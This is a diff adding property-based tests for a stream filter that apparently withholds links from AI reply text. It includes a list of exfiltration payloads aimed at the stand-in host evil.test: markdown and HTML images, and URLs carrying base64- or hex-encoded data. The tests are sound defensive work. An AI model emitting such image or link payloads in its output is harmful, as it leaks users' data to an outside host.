@@ -104,6 +104,41 @@ describe("links in a stream", () => {
     expect(new LinkStream(policy).push("Only words here, no more ")).toBe("Only words here, no more ");
   });
 
+  it("[PH-1] [NB-7] let no image and no data out when the stream falls silent anywhere in them", () => {
+    const attacks = [
+      "![a](https://evil.test/p.png)",
+      "say ! ![a][1] so\n[1]: https://evil.test/p.png",
+      '<img src="https://evil.test/p.png">',
+      `see https://evil.test/?q=${base64(sentence)} now`,
+      `//evil.test/${hex(sentence)}`,
+      "javascript:evil.test()",
+    ];
+    const texts = fc.tuple(fc.constantFrom("", "word ", "[x] y ", "http ", "a! ", "(d "), fc.constantFrom(...attacks));
+    fc.assert(
+      fc.property(texts, fc.array(fc.nat(), { maxLength: 12 }), ([before, attack], points) => {
+        const text = `${before}${attack}`;
+        const places = [...new Set(points.map((point) => point % (text.length + 1)))].sort((a, b) => a - b);
+        const stream = new LinkStream(policy);
+        let left = "";
+        for (const [i, place] of [0, ...places].entries()) {
+          left += stream.push(text.slice(place, places[i]));
+          left += stream.idle();
+        }
+        left += stream.flush();
+        expect(left).toContain("[link withheld");
+        expect(left).not.toContain("evil.test");
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+
+  it("[NB-7] give words when the stream falls silent, and brackets that lead nowhere", () => {
+    const stream = new LinkStream(policy);
+    expect(stream.push("a [redacted:github-token] wor") + stream.idle()).toBe("a [redacted:github-token] wor");
+    expect(stream.push("d, htt") + stream.idle()).toBe("d, htt");
+    expect(stream.push("ps://nodejs.org/api/ is good") + stream.flush()).toBe("ps://nodejs.org/api/ is good");
+  });
+
   it("[PH-1] go through the same stream as secrets, unless they are left alone", () => {
     const say = (mode: "withhold" | "off") => {
       const stream = replyStream(new Redactor(), { mode, hosts: [] });
